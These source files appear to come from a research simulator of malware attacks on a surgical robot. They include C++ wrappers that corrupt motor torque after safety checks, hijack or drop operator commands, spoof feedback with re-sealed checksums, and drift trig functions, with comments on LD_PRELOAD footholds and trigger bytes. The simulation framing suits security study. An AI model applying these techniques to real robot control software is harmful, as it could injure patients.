python3 -m json.tool "${TDIR}/trace.json" >/dev/null
python3 - "${TDIR}/events.jsonl" <<'PY'
import json, sys
with open(sys.argv[1]) as f:
    lines = [line for line in f if line.strip()]
for n, line in enumerate(lines, 1):
    try:
        json.loads(line)
    except json.JSONDecodeError as e:
        sys.exit(f"events.jsonl line {n} is not valid JSON: {e}")
assert len(lines) >= 2, "events.jsonl is missing the header or any events"
PY

# And carry the expected content.
grep -q '"schema": "rg.campaign.report/2"' "${TDIR}/report.json"
grep -q '"timing"' "${TDIR}/report.json"
grep -q '"rg.span.control.tick"' "${TDIR}/metrics.json"
grep -q '"rg.span.estimator.solve"' "${TDIR}/metrics.json"
grep -q '"rg.span.pipeline.process"' "${TDIR}/metrics.json"
grep -q '"p99"' "${TDIR}/metrics.json"
grep -q '"traceEvents"' "${TDIR}/trace.json"
grep -q '"schema": "rg.events/1"' "${TDIR}/events.jsonl"
grep -q '"kind": "detector_alarm"' "${TDIR}/events.jsonl"
grep -q '"kind": "mitigation"' "${TDIR}/events.jsonl"
grep -q '"kind": "flight_dump"' "${TDIR}/events.jsonl"
echo "telemetry artifacts OK (${TDIR})"

echo "== tier-1 stage 4: dynamics kernel bench schema =="
cmake --build build -j "${JOBS}" --target bench_dynamics_kernel
RG_SCALE=0.02 RG_BENCH_DYNAMICS_JSON="${TDIR}/bench_dynamics.json" \
  ./build/bench/bench_dynamics_kernel >/dev/null
python3 - "${TDIR}/bench_dynamics.json" <<'PY'
import json, sys
with open(sys.argv[1]) as f:
    doc = json.load(f)
assert doc["schema"] == "rg.bench.dynamics/1", doc.get("schema")
assert doc["lanes"] >= 2, doc.get("lanes")
kernels = {row["kernel"] for row in doc["kernels"]}
assert {"derivative", "step_rk4", "campaign"} <= kernels, kernels
for row in doc["kernels"]:
    assert row["evals"] > 0
    assert row["scalar_evals_per_sec"] > 0.0
    assert row["batched_evals_per_sec"] > 0.0
    assert row["speedup"] > 0.0
PY
echo "bench schema OK (${TDIR}/bench_dynamics.json)"

echo "tier-1: all stages passed"
