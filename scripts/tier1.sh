#!/usr/bin/env bash
# Tier-1 verification: the standard build + full test suite, plus a
# ThreadSanitizer pass over the campaign engine's concurrency tests.
#
#   scripts/tier1.sh            # from the repo root
#
# Stage 1 is the canonical tier-1 command from ROADMAP.md.  Stage 2
# rebuilds with -DRG_SANITIZE=thread and runs the Campaign.* tests under
# TSan, so data races in the worker pool fail CI rather than flaking.
set -euo pipefail
cd "$(dirname "$0")/.."

JOBS="${JOBS:-$(nproc)}"

echo "== tier-1 stage 1: standard build + full ctest =="
cmake -B build -S . >/dev/null
cmake --build build -j "${JOBS}"
(cd build && ctest --output-on-failure -j "${JOBS}")

echo "== tier-1 stage 2: ThreadSanitizer campaign tests =="
cmake -B build-tsan -S . -DRG_SANITIZE=thread >/dev/null
cmake --build build-tsan -j "${JOBS}" --target test_campaign
(cd build-tsan && ctest --output-on-failure -R '^Campaign\.')

echo "tier-1: all stages passed"
