#include "attack/attack_engine.hpp"

#include <cmath>

#include "common/robot_state.hpp"

namespace rg {

std::uint64_t AttackArtifacts::injections() const noexcept {
  std::uint64_t n = 0;
  if (usb_write) n += usb_write->injections();
  if (console_path) n += console_path->injections();
  if (usb_read) n += usb_read->injections();
  return n;
}

std::optional<std::uint64_t> AttackArtifacts::first_injection_tick() const noexcept {
  std::optional<std::uint64_t> first;
  const auto consider = [&first](std::optional<std::uint64_t> t) {
    if (t && (!first || *t < *first)) first = t;
  };
  if (usb_write) consider(usb_write->first_injection_tick());
  if (console_path) consider(console_path->first_injection_tick());
  if (usb_read) consider(usb_read->first_injection_tick());
  return first;
}

std::shared_ptr<InjectionWrapper> build_torque_injection(const AttackSpec& spec,
                                                         std::size_t state_byte_index,
                                                         std::uint8_t watchdog_mask,
                                                         std::uint8_t pedal_down_code) {
  InjectionConfig cfg;
  cfg.state_byte_index = state_byte_index;
  cfg.watchdog_mask = watchdog_mask;
  cfg.trigger_code = pedal_down_code;
  cfg.mode = InjectionConfig::Mode::kAddChannel;
  cfg.target_channel = spec.target_channel;
  cfg.value = static_cast<std::int32_t>(std::lround(spec.magnitude));
  cfg.delay_packets = spec.delay_packets;
  cfg.duration_packets = spec.duration_packets;
  cfg.seed = spec.seed;
  return std::make_shared<InjectionWrapper>(cfg);
}

AttackArtifacts build_attack(const AttackSpec& spec) {
  AttackArtifacts out;
  switch (spec.variant) {
    case AttackVariant::kNone:
      break;

    case AttackVariant::kUserInputInjection: {
      ItpInjectionConfig cfg;
      cfg.mode = ItpInjectionConfig::Mode::kInflateIncrement;
      cfg.increment_magnitude = spec.magnitude;
      cfg.delay_packets = spec.delay_packets;
      cfg.duration_packets = spec.duration_packets;
      cfg.seed = spec.seed;
      out.console_path = std::make_shared<ItpInjectionWrapper>(cfg);
      break;
    }

    case AttackVariant::kTrajectoryHijack: {
      ItpInjectionConfig cfg;
      cfg.mode = ItpInjectionConfig::Mode::kHijack;
      cfg.hijack_radius = spec.magnitude > 0.0 ? spec.magnitude : 0.01;
      cfg.delay_packets = spec.delay_packets;
      cfg.duration_packets = spec.duration_packets;
      cfg.seed = spec.seed;
      out.console_path = std::make_shared<ItpInjectionWrapper>(cfg);
      break;
    }

    case AttackVariant::kConsoleDrop: {
      ItpInjectionConfig cfg;
      cfg.mode = ItpInjectionConfig::Mode::kDropPackets;
      cfg.delay_packets = spec.delay_packets;
      cfg.duration_packets = spec.duration_packets;
      cfg.seed = spec.seed;
      out.console_path = std::make_shared<ItpInjectionWrapper>(cfg);
      break;
    }

    case AttackVariant::kMathDrift: {
      MathDriftConfig cfg;
      cfg.drift_per_call = spec.magnitude > 0.0 ? spec.magnitude : 1.0e-9;
      out.math_hooks = make_drifting_math(cfg);
      break;
    }

    case AttackVariant::kStateSpoof: {
      FeedbackAttackConfig cfg;
      cfg.mode = FeedbackAttackConfig::Mode::kStateSpoof;
      cfg.spoofed_state = RobotState::kEStop;
      cfg.delay_packets = spec.delay_packets;
      cfg.duration_packets = spec.duration_packets;
      out.usb_read = std::make_shared<FeedbackAttackWrapper>(cfg);
      break;
    }

    case AttackVariant::kTorqueInjection: {
      // Default trigger: the values the analysis phase recovers on this
      // system (state byte 0, watchdog bit 4, Pedal Down = 0x0F).
      out.usb_write = build_torque_injection(spec, /*state_byte_index=*/0,
                                             /*watchdog_mask=*/0x10,
                                             /*pedal_down_code=*/0x0F);
      break;
    }

    case AttackVariant::kEncoderCorruption: {
      FeedbackAttackConfig cfg;
      cfg.mode = FeedbackAttackConfig::Mode::kEncoderOffset;
      cfg.target_channel = spec.target_channel;
      cfg.count_offset = static_cast<std::int32_t>(std::lround(spec.magnitude));
      cfg.delay_packets = spec.delay_packets;
      cfg.duration_packets = spec.duration_packets;
      out.usb_read = std::make_shared<FeedbackAttackWrapper>(cfg);
      break;
    }
  }
  return out;
}

}  // namespace rg
