// Attack-injection engine: programmable construction of the paper's
// attack variants (Table I) for batch experiments.
//
// "The core of the attack injection engine is a software implemented
// fault-injection tool that can be programmed to install wrappers around
// different system calls in the control software" — here, a factory that
// builds the right PacketInterposer (or malicious math hooks) for a
// declarative AttackSpec, so experiment harnesses can sweep values,
// activation periods, and onsets.
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <string_view>

#include "attack/feedback_attack.hpp"
#include "attack/injection_wrapper.hpp"
#include "attack/itp_injection.hpp"
#include "attack/math_attack.hpp"

namespace rg {

enum class AttackVariant : std::uint8_t {
  kNone,
  kUserInputInjection,  ///< scenario A: inflate operator increments
  kTrajectoryHijack,    ///< Table I row 1: substitute attacker motion
  kConsoleDrop,         ///< Table I row 1: silently drop console traffic
  kMathDrift,           ///< Table I row 2: drifting sin/cos -> IK-fail
  kStateSpoof,          ///< Table I row 3: corrupt PLC state echo -> homing failure
  kTorqueInjection,     ///< scenario B: corrupt DAC words post-check
  kEncoderCorruption,   ///< Table I row 4: corrupt encoder feedback
};

constexpr std::string_view to_string(AttackVariant v) noexcept {
  switch (v) {
    case AttackVariant::kNone: return "none";
    case AttackVariant::kUserInputInjection: return "user-input-injection (A)";
    case AttackVariant::kTrajectoryHijack: return "trajectory-hijack";
    case AttackVariant::kConsoleDrop: return "console-drop";
    case AttackVariant::kMathDrift: return "math-drift";
    case AttackVariant::kStateSpoof: return "state-spoof";
    case AttackVariant::kTorqueInjection: return "torque-injection (B)";
    case AttackVariant::kEncoderCorruption: return "encoder-corruption";
  }
  return "unknown";
}

struct AttackSpec {
  AttackVariant variant = AttackVariant::kNone;
  /// Variant-specific magnitude:
  ///   A: injected increment per packet (m); B: DAC count offset;
  ///   encoder corruption: count offset; math drift: drift per call.
  double magnitude = 0.0;
  /// Triggered packets to skip before activation.
  std::uint32_t delay_packets = 0;
  /// Activation period in packets (ms at 1 kHz); 0 = unbounded.
  std::uint32_t duration_packets = 64;
  /// Target channel for channel-addressed corruption.
  std::size_t target_channel = 1;
  std::uint64_t seed = 7777;
};

/// The malware artifacts to install for one attack run.  Null members are
/// hops the attack does not compromise.
struct AttackArtifacts {
  std::shared_ptr<InjectionWrapper> usb_write;        ///< scenario B family
  std::shared_ptr<ItpInjectionWrapper> console_path;  ///< scenario A family
  std::shared_ptr<FeedbackAttackWrapper> usb_read;    ///< feedback family
  std::optional<MathHooks> math_hooks;                ///< math-library family

  /// Total packets corrupted/dropped across whichever hop is active.
  [[nodiscard]] std::uint64_t injections() const noexcept;
  /// Tick of first malicious action, if any occurred.
  [[nodiscard]] std::optional<std::uint64_t> first_injection_tick() const noexcept;
};

/// Build the artifacts for a spec.  For kTorqueInjection the trigger
/// (state byte / watchdog mask / Pedal-Down code) defaults to the values
/// the analysis phase recovers for this system; experiments that run the
/// full kill chain pass their own recovered StateInference-based config
/// via build_torque_injection().
[[nodiscard]] AttackArtifacts build_attack(const AttackSpec& spec);

/// Scenario-B artifact from an explicit (analysis-recovered) trigger.
[[nodiscard]] std::shared_ptr<InjectionWrapper> build_torque_injection(
    const AttackSpec& spec, std::size_t state_byte_index, std::uint8_t watchdog_mask,
    std::uint8_t pedal_down_code);

}  // namespace rg
