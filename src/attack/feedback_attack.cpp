#include "attack/feedback_attack.hpp"

#include <algorithm>

#include "hw/usb_packet.hpp"

namespace rg {

bool FeedbackAttackWrapper::on_packet(std::span<std::uint8_t> bytes, std::uint64_t tick) {
  auto decoded = decode_feedback(bytes, /*verify_checksum=*/false);
  if (!decoded.ok()) return true;

  const std::uint64_t idx = packets_seen_++;
  if (idx < config_.delay_packets) return true;
  if (config_.duration_packets > 0 &&
      idx >= static_cast<std::uint64_t>(config_.delay_packets) + config_.duration_packets) {
    return true;
  }

  FeedbackPacket pkt = decoded.value();
  switch (config_.mode) {
    case FeedbackAttackConfig::Mode::kEncoderOffset:
      if (config_.target_channel < pkt.encoders.size()) {
        pkt.encoders[config_.target_channel] += config_.count_offset;
      }
      break;
    case FeedbackAttackConfig::Mode::kStateSpoof:
      pkt.state = config_.spoofed_state;
      break;
  }

  // Re-seal the checksum: the software *does* verify feedback integrity,
  // and the wrapper runs inside the process, so it can always fix it up.
  const FeedbackBytes sealed = encode_feedback(pkt);
  std::copy(sealed.begin(), sealed.end(), bytes.begin());
  ++injections_;
  if (!first_tick_) first_tick_ = tick;
  return true;
}

}  // namespace rg
