// Table I read-path attacks: malicious wrappers on the `read` system call
// that carries USB feedback (encoder counts + PLC state echo) back into
// the control software.
//
//   kEncoderOffset — add a constant to one channel's encoder count: the
//     software believes the arm is somewhere it is not, the PID "corrects"
//     the phantom error, and the arm physically jumps.
//   kStateSpoof    — rewrite the state nibble echoed by the PLC (e.g.
//     report E-STOP during Init), desynchronizing software and PLC: the
//     homing-failure variant.
#pragma once

#include <cstdint>
#include <optional>

#include "attack/interposer.hpp"
#include "common/robot_state.hpp"

namespace rg {

struct FeedbackAttackConfig {
  enum class Mode : std::uint8_t { kEncoderOffset, kStateSpoof };
  Mode mode = Mode::kEncoderOffset;

  /// kEncoderOffset: channel and count offset to add.
  std::size_t target_channel = 1;
  std::int32_t count_offset = 500;

  /// kStateSpoof: state to report instead of the true one.
  RobotState spoofed_state = RobotState::kEStop;

  /// Packets to skip before activating, and activation length (0 = forever).
  std::uint32_t delay_packets = 0;
  std::uint32_t duration_packets = 0;
};

class FeedbackAttackWrapper final : public PacketInterposer {
 public:
  explicit FeedbackAttackWrapper(const FeedbackAttackConfig& config) : config_(config) {}

  bool on_packet(std::span<std::uint8_t> bytes, std::uint64_t tick) override;

  [[nodiscard]] std::uint64_t injections() const noexcept { return injections_; }
  [[nodiscard]] std::optional<std::uint64_t> first_injection_tick() const noexcept {
    return first_tick_;
  }

 private:
  FeedbackAttackConfig config_;
  std::uint64_t packets_seen_ = 0;
  std::uint64_t injections_ = 0;
  std::optional<std::uint64_t> first_tick_{};
};

}  // namespace rg
