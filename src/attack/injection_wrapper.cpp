#include "attack/injection_wrapper.hpp"

#include <algorithm>

#include "common/error.hpp"

namespace rg {

InjectionWrapper::InjectionWrapper(const InjectionConfig& config)
    : config_(config), rng_(config.seed) {
  require(config.random_lo <= config.random_hi, "random_lo must be <= random_hi");
}

bool InjectionWrapper::on_packet(std::span<std::uint8_t> bytes, std::uint64_t tick) {
  if (bytes.size() <= config_.state_byte_index) return true;

  // Trigger check: is the robot engaged (Pedal Down)?
  const std::uint8_t masked = static_cast<std::uint8_t>(
      bytes[config_.state_byte_index] & static_cast<std::uint8_t>(~config_.watchdog_mask));
  if (masked != config_.trigger_code) return true;

  const std::uint64_t idx = triggered_seen_++;
  if (idx < config_.delay_packets) return true;
  if (config_.duration_packets > 0 &&
      idx >= static_cast<std::uint64_t>(config_.delay_packets) + config_.duration_packets) {
    return true;
  }

  corrupt(bytes);
  ++injections_;
  if (!first_tick_) first_tick_ = tick;
  return true;  // deliver the corrupted packet — that is the attack
}

void InjectionWrapper::corrupt(std::span<std::uint8_t> bytes) noexcept {
  switch (config_.mode) {
    case InjectionConfig::Mode::kRandomByte: {
      if (config_.target_byte >= bytes.size()) return;
      bytes[config_.target_byte] = static_cast<std::uint8_t>(
          rng_.uniform_int(config_.random_lo, config_.random_hi));
      break;
    }
    case InjectionConfig::Mode::kSetChannel:
    case InjectionConfig::Mode::kAddChannel: {
      // DAC words live at bytes [1 + 2*ch, 1 + 2*ch + 1], little-endian
      // (the attacker learned the layout by fuzzing, per the paper).
      const std::size_t off = 1 + 2 * config_.target_channel;
      if (off + 1 >= bytes.size()) return;
      const auto current = static_cast<std::int16_t>(
          static_cast<std::uint16_t>(bytes[off]) |
          (static_cast<std::uint16_t>(bytes[off + 1]) << 8));
      std::int32_t next = (config_.mode == InjectionConfig::Mode::kSetChannel)
                              ? config_.value
                              : static_cast<std::int32_t>(current) + config_.value;
      next = std::clamp(next, -32768, 32767);
      const auto out = static_cast<std::uint16_t>(static_cast<std::int16_t>(next));
      bytes[off] = static_cast<std::uint8_t>(out & 0xFF);
      bytes[off + 1] = static_cast<std::uint8_t>((out >> 8) & 0xFF);
      break;
    }
  }
}

}  // namespace rg
