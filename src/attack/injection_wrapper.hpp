// Deployment-phase malware for attack scenario B: injection of unintended
// motor torque commands *after* the software safety checks (the TOCTOU
// exploit, paper Sec. III.B.3).
//
// The wrapper watches Byte 0 of every outgoing USB packet; when the
// masked value equals the Pedal-Down code learned in the analysis phase,
// it starts corrupting the DAC payload.  Corruption modes mirror the
// paper's experiments: overwrite a raw byte with a random value, or
// set/offset a specific channel's 16-bit DAC word.  The checksum is left
// stale on purpose — the USB board never verifies it.
#pragma once

#include <cstdint>
#include <optional>

#include "attack/interposer.hpp"
#include "common/rng.hpp"

namespace rg {

struct InjectionConfig {
  // --- trigger (from the offline analysis) -------------------------------
  std::size_t state_byte_index = 0;
  std::uint8_t watchdog_mask = 0x10;
  std::uint8_t trigger_code = 0x0F;  ///< masked Byte-0 value for Pedal Down

  // --- what to corrupt ----------------------------------------------------
  enum class Mode : std::uint8_t {
    kRandomByte,   ///< overwrite one raw payload byte with a random value
    kSetChannel,   ///< set a channel's int16 DAC word to `value`
    kAddChannel,   ///< add `value` to a channel's int16 DAC word (saturating)
  };
  Mode mode = Mode::kAddChannel;
  std::size_t target_byte = 4;     ///< for kRandomByte
  std::uint8_t random_lo = 0;      ///< for kRandomByte
  std::uint8_t random_hi = 100;    ///< for kRandomByte
  std::size_t target_channel = 1;  ///< for channel modes (0..7)
  std::int32_t value = 0;          ///< DAC counts for channel modes

  // --- when ----------------------------------------------------------------
  /// Triggered packets to skip before the attack activates (lets the
  /// attacker strike mid-procedure rather than at first pedal press).
  std::uint32_t delay_packets = 0;
  /// Activation period: number of consecutive triggered packets to
  /// corrupt (at 1 kHz, packets == milliseconds).  0 = unbounded.
  std::uint32_t duration_packets = 64;

  std::uint64_t seed = 99;
};

class InjectionWrapper final : public PacketInterposer {
 public:
  explicit InjectionWrapper(const InjectionConfig& config);

  bool on_packet(std::span<std::uint8_t> bytes, std::uint64_t tick) override;

  /// Number of packets actually corrupted so far.
  [[nodiscard]] std::uint64_t injections() const noexcept { return injections_; }
  /// Tick of the first corruption, if any.
  [[nodiscard]] std::optional<std::uint64_t> first_injection_tick() const noexcept {
    return first_tick_;
  }
  [[nodiscard]] bool done() const noexcept {
    return config_.duration_packets > 0 && injections_ >= config_.duration_packets;
  }

 private:
  void corrupt(std::span<std::uint8_t> bytes) noexcept;

  InjectionConfig config_;
  Pcg32 rng_;
  std::uint64_t triggered_seen_ = 0;
  std::uint64_t injections_ = 0;
  std::optional<std::uint64_t> first_tick_{};
};

}  // namespace rg
