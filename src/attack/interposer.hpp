// System-call interposition framework (the malware's foothold).
//
// On the real robot the malware is a shared library forced into the
// control process via LD_PRELOAD / /etc/ld.so.preload, wrapping the
// write/read libc functions that carry USB traffic (paper Fig. 4).  The
// wrapper sees the raw buffer *after* every software safety check and
// *before* the kernel delivers it to the board — the TOCTOU window.
//
// In the simulation, each byte-stream hop (ITP receive, USB write, USB
// read) is routed through an InterposerChain; an attack installs a
// PacketInterposer on the hop it compromised.  The interposer may
// observe, mutate in place, or drop the packet — exactly the three
// behaviours of a malicious syscall wrapper.
#pragma once

#include <cstdint>
#include <memory>
#include <span>
#include <vector>

namespace rg {

class PacketInterposer {
 public:
  virtual ~PacketInterposer() = default;

  /// Called once per packet.  `bytes` is the raw buffer (mutable, as a
  /// wrapper sees the caller's buffer); `tick` is the control tick.
  /// Return false to suppress delivery (the wrapper never calls the real
  /// syscall); true to deliver the (possibly mutated) bytes.
  virtual bool on_packet(std::span<std::uint8_t> bytes, std::uint64_t tick) = 0;
};

/// Ordered chain of interposers on one hop (multiple preloaded libraries
/// stack in load order).  An empty chain is the uncompromised system.
class InterposerChain {
 public:
  void add(std::shared_ptr<PacketInterposer> interposer) {
    if (interposer) chain_.push_back(std::move(interposer));
  }

  /// Run the chain.  Returns false as soon as any interposer drops the
  /// packet.
  bool process(std::span<std::uint8_t> bytes, std::uint64_t tick) {
    for (const auto& hop : chain_) {
      if (!hop->on_packet(bytes, tick)) return false;
    }
    return true;
  }

  [[nodiscard]] std::size_t size() const noexcept { return chain_.size(); }
  [[nodiscard]] bool empty() const noexcept { return chain_.empty(); }
  void clear() noexcept { chain_.clear(); }

 private:
  std::vector<std::shared_ptr<PacketInterposer>> chain_;
};

}  // namespace rg
