#include "attack/itp_injection.hpp"

#include <algorithm>
#include <cmath>

#include "common/clock.hpp"
#include "common/units.hpp"
#include "net/itp_packet.hpp"

namespace rg {

ItpInjectionWrapper::ItpInjectionWrapper(const ItpInjectionConfig& config)
    : config_(config), rng_(config.seed) {}

bool ItpInjectionWrapper::on_packet(std::span<std::uint8_t> bytes, std::uint64_t tick) {
  auto decoded = decode_itp(bytes, /*verify_checksum=*/false);
  if (!decoded.ok()) return true;  // not an ITP packet; leave it alone
  ItpPacket pkt = decoded.value();

  // The attack only matters while the robot is engaged.
  if (!pkt.pedal_down) return true;

  const std::uint64_t idx = pedal_packets_seen_++;
  if (idx < config_.delay_packets) return true;
  if (config_.duration_packets > 0 &&
      idx >= static_cast<std::uint64_t>(config_.delay_packets) + config_.duration_packets) {
    return true;
  }

  switch (config_.mode) {
    case ItpInjectionConfig::Mode::kDropPackets:
      ++injections_;
      if (!first_tick_) first_tick_ = tick;
      return false;  // suppress delivery (the console "went silent")

    case ItpInjectionConfig::Mode::kInflateIncrement: {
      if (!direction_chosen_) {
        direction_ = config_.increment_direction;
        if (direction_.norm() < 1e-12) {
          // Random unit direction (uniform on the sphere via normals).
          direction_ = Vec3{rng_.normal(), rng_.normal(), rng_.normal()};
        }
        direction_ = (1.0 / direction_.norm()) * direction_;
        direction_chosen_ = true;
      }
      pkt.pos_increment += config_.increment_magnitude * direction_;
      break;
    }

    case ItpInjectionConfig::Mode::kHijack: {
      // Replace the operator's motion with the attacker's circle.
      const double t = static_cast<double>(injections_) * kControlPeriodSec;
      const double w = 2.0 * kPi / config_.hijack_period;
      const double r = config_.hijack_radius;
      // Increment = derivative of the circle sampled at 1 kHz.
      pkt.pos_increment = Vec3{-r * w * std::sin(w * t) * kControlPeriodSec,
                               r * w * std::cos(w * t) * kControlPeriodSec, 0.0};
      break;
    }
  }

  // Re-serialize in place, checksum re-sealed: format stays legitimate.
  const ItpBytes sealed = encode_itp(pkt);
  std::copy(sealed.begin(), sealed.end(), bytes.begin());
  ++injections_;
  if (!first_tick_) first_tick_ = tick;
  return true;
}

}  // namespace rg
