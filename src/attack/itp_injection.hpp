// Deployment-phase malware for attack scenario A: injection of unintended
// user inputs after they are received by the control software.
//
// The wrapper sits on the console-receive path inside the compromised
// control host (post network checksum).  While the packet says the pedal
// is down, it replaces or inflates the operator's incremental motion —
// preserving legitimate format and syntax, so nothing upstream of the
// robot's semantics can tell.  It re-seals the checksum: the attacker
// learned the ITP layout from public documentation.
//
// Variants cover the Table I console-layer rows:
//   kInflateIncrement — scale/offset the surgeon's motion (unintended jump)
//   kHijack           — substitute an attacker-chosen motion (trajectory
//                       hijacking: perform an action the operator never made)
//   kDropPackets      — silently drop console traffic (unwanted halt /
//                       port-rebind variant)
#pragma once

#include <cstdint>
#include <optional>

#include "attack/interposer.hpp"
#include "common/rng.hpp"
#include "math/vec.hpp"

namespace rg {

struct ItpInjectionConfig {
  enum class Mode : std::uint8_t { kInflateIncrement, kHijack, kDropPackets };
  Mode mode = Mode::kInflateIncrement;

  /// kInflateIncrement: injected extra increment magnitude per packet (m).
  double increment_magnitude = 5.0e-4;
  /// Direction of the injected increment; zero => random unit direction
  /// chosen at activation.
  Vec3 increment_direction{};

  /// kHijack: attacker motion = circle of this radius (m) and period (s),
  /// replacing the operator's increments.
  double hijack_radius = 0.01;
  double hijack_period = 1.0;

  /// Pedal-down packets to skip before activating.
  std::uint32_t delay_packets = 0;
  /// Packets to corrupt once active (0 = unbounded).
  std::uint32_t duration_packets = 64;

  std::uint64_t seed = 1234;
};

class ItpInjectionWrapper final : public PacketInterposer {
 public:
  explicit ItpInjectionWrapper(const ItpInjectionConfig& config);

  bool on_packet(std::span<std::uint8_t> bytes, std::uint64_t tick) override;

  [[nodiscard]] std::uint64_t injections() const noexcept { return injections_; }
  [[nodiscard]] std::optional<std::uint64_t> first_injection_tick() const noexcept {
    return first_tick_;
  }

 private:
  ItpInjectionConfig config_;
  Pcg32 rng_;
  Vec3 direction_{};
  bool direction_chosen_ = false;
  std::uint64_t pedal_packets_seen_ = 0;
  std::uint64_t injections_ = 0;
  std::optional<std::uint64_t> first_tick_{};
};

}  // namespace rg
