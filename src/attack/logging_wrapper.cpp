#include "attack/logging_wrapper.hpp"

#include <utility>

namespace rg {

LoggingWrapper::LoggingWrapper(std::string target_process, int target_fd,
                               std::string current_process, int current_fd)
    : target_process_(std::move(target_process)),
      target_fd_(target_fd),
      current_process_(std::move(current_process)),
      current_fd_(current_fd) {}

bool LoggingWrapper::on_packet(std::span<std::uint8_t> bytes, std::uint64_t tick) {
  // The real wrapper's filter: only the robot process writing to the USB
  // device fd is interesting.  Everything else passes straight through.
  if (current_process_ == target_process_ && current_fd_ == target_fd_) {
    // "Send the UDP packet to the remote attacker": modelled as an
    // append to the attacker-side buffer (copying the payload exactly as
    // a sendto() would serialize it).
    log_.push_back(CapturedPacket{tick, {bytes.begin(), bytes.end()}});
  }
  return true;  // always call the original write — stealth phase
}

}  // namespace rg
