// Attack-preparation-phase malware: the eavesdropping write wrapper.
//
// Mirrors the paper's logging wrapper, which (per Table II) checks the
// process name and file descriptor, then forwards a copy of the USB
// buffer to the attacker's remote server over UDP.  The captured packets
// are what the offline analysis phase (packet_analyzer.hpp) mines for the
// robot's state byte.  The wrapper never modifies traffic — stealth is
// the point of this phase.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "attack/interposer.hpp"

namespace rg {

/// One captured packet with its capture tick.
struct CapturedPacket {
  std::uint64_t tick = 0;
  std::vector<std::uint8_t> bytes;
};

class LoggingWrapper final : public PacketInterposer {
 public:
  /// target_process / target_fd: the filter the real wrapper applies so
  /// it only exfiltrates the robot's USB writes, not every write on the
  /// system.  current_process models getenv/readlink-derived identity.
  LoggingWrapper(std::string target_process, int target_fd,
                 std::string current_process, int current_fd);

  bool on_packet(std::span<std::uint8_t> bytes, std::uint64_t tick) override;

  /// The attacker-side capture (the "remote server" contents).
  [[nodiscard]] const std::vector<CapturedPacket>& capture() const noexcept { return log_; }
  [[nodiscard]] std::size_t packets_captured() const noexcept { return log_.size(); }
  void clear() noexcept { log_.clear(); }

 private:
  std::string target_process_;
  int target_fd_;
  std::string current_process_;
  int current_fd_;
  std::vector<CapturedPacket> log_;
};

}  // namespace rg
