#include "attack/math_attack.hpp"

#include <algorithm>
#include <cmath>

namespace rg {

namespace {
// A real malicious preload keeps its state in the library's globals; we
// model that with translation-unit globals behind accessors.  They are
// thread-local so parallel campaigns stay deterministic: each worker
// thread owns its own drift state, and the campaign runner re-arms it
// (reset_math_drift) before every job.
thread_local MathDriftConfig g_config{};
thread_local double g_drift = 0.0;

void advance_drift() noexcept {
  g_drift = std::min(g_drift + g_config.drift_per_call, g_config.max_drift);
}

double evil_sin(double x) {
  advance_drift();
  return std::sin(x) + g_drift;
}
double evil_cos(double x) {
  advance_drift();
  return std::cos(x) + g_drift;
}
// acos/atan2 pass through — the paper's attack targeted sin/cos.
double honest_acos(double x) { return std::acos(x); }
double honest_atan2(double y, double x) { return std::atan2(y, x); }
}  // namespace

MathHooks make_drifting_math(const MathDriftConfig& config) noexcept {
  g_config = config;
  g_drift = 0.0;
  return MathHooks{evil_sin, evil_cos, honest_acos, honest_atan2};
}

void reset_math_drift() noexcept {
  g_drift = 0.0;
  g_config = MathDriftConfig{};
}

double current_math_drift() noexcept { return g_drift; }

}  // namespace rg
