// Table I "math library" attack: a malicious libm preload that adds a
// slow drift to sin/cos outputs inside the control process.
//
// The drift is tiny per call but accumulates through the kinematic chain
// until the desired pose leaves the workspace — producing the "IK-fail"
// unwanted halt state the paper reports, with no change in control flow
// or command syntax.
#pragma once

#include "kinematics/raven_kinematics.hpp"

namespace rg {

/// Controls for the drifting math library.  The drift grows linearly
/// with the number of calls, mimicking an accumulating bias.
struct MathDriftConfig {
  double drift_per_call = 1.0e-9;  ///< added to every sin/cos result
  double max_drift = 0.2;          ///< saturation of the accumulated bias
};

/// Install the drifting implementation.  Returns hooks to pass to
/// RavenKinematics::set_math_hooks().  The drift state is global to the
/// calling thread (modelling a real malicious shared library's globals,
/// but thread-local so parallel campaigns don't share it);
/// reset_math_drift() re-arms it between experiments on the same thread.
[[nodiscard]] MathHooks make_drifting_math(const MathDriftConfig& config) noexcept;

/// Zero the accumulated drift and clear the active configuration.
void reset_math_drift() noexcept;

/// Accumulated drift so far (for experiment logging).
[[nodiscard]] double current_math_drift() noexcept;

}  // namespace rg
