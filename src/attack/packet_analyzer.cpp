#include "attack/packet_analyzer.hpp"

#include <array>
#include <bitset>
#include <limits>

namespace rg {

namespace {

/// A bit is a "periodic toggle" when it flips on a large fraction of
/// consecutive packets and spends roughly half its time high — the
/// signature of a watchdog square wave, not of data.
bool is_toggling_bit(std::size_t transitions, std::size_t ones, std::size_t n) noexcept {
  if (n < 16) return false;
  const double flip_rate = static_cast<double>(transitions) / static_cast<double>(n - 1);
  const double duty = static_cast<double>(ones) / static_cast<double>(n);
  return flip_rate > 0.25 && duty > 0.35 && duty < 0.65;
}

}  // namespace

PacketAnalyzer::PacketAnalyzer(std::vector<CapturedPacket> capture)
    : capture_(std::move(capture)) {
  require(!capture_.empty(), "PacketAnalyzer needs at least one packet");
  packet_size_ = capture_.front().bytes.size();
  for (const auto& pkt : capture_) {
    require(pkt.bytes.size() == packet_size_, "PacketAnalyzer: mixed packet sizes");
  }

  profiles_.resize(packet_size_);
  const std::size_t n = capture_.size();
  for (std::size_t b = 0; b < packet_size_; ++b) {
    ByteProfile& prof = profiles_[b];
    prof.index = b;

    // Raw cardinality.
    std::bitset<256> seen_raw;
    for (const auto& pkt : capture_) seen_raw.set(pkt.bytes[b]);
    prof.distinct_values = seen_raw.count();
    prof.constant = prof.distinct_values == 1;

    // Per-bit toggle statistics.
    std::array<std::size_t, 8> transitions{};
    std::array<std::size_t, 8> ones{};
    for (std::size_t i = 0; i < n; ++i) {
      const std::uint8_t v = capture_[i].bytes[b];
      for (std::size_t bit = 0; bit < 8; ++bit) {
        const bool cur = (v >> bit) & 1U;
        if (cur) ++ones[bit];
        if (i > 0) {
          const std::uint8_t pv = capture_[i - 1].bytes[b];
          const bool prev = (pv >> bit) & 1U;
          if (cur != prev) ++transitions[bit];
        }
      }
    }
    std::uint8_t mask = 0;
    for (std::size_t bit = 0; bit < 8; ++bit) {
      if (is_toggling_bit(transitions[bit], ones[bit], n)) {
        mask |= static_cast<std::uint8_t>(1U << bit);
      }
    }
    prof.toggling_mask = mask;

